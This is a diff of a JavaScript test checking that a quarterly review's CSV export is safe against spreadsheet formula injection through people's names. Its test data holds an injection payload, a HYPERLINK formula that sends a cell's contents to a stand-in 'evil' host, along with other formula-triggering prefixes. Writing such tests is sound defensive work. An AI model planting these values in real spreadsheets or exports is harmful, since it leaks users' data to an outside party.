@@ -81,8 +81,13 @@ describe('the review of a quarter', () => {
   it('is a table in which no name is calculated by a spreadsheet', async () => {
     const { office } = opened.house;
     const admin = await person('admin', 'ada');
-    const names = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1', '-1', '@SUM(A1)', '\tx', '\rx'];
-    for (const name of names) await tokenFor(office, { name, role: 'legal' });
+    const said = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1', '-1', '@SUM(A1)'];
+    // No flow makes such a name; a row of an older version may bear one.
+    const kept = ['\tx', '\rx'];
+    const names = [...said, ...kept];
+    for (const name of [...said, 'kept 0', 'kept 1']) await tokenFor(office, { name, role: 'legal' });
+    for (const [index, name] of kept.entries())
+      await office.store.db.sql`UPDATE people SET name = ${name} WHERE name = ${`kept ${index}`}`;
     await tokenFor(office, { name: "O'Hara = 1", role: 'legal' });
     const { id } = good(await openReviewNow(office, admin));
     const csv = Buffer.from(good(await reviewCsv(office, id))).toString();
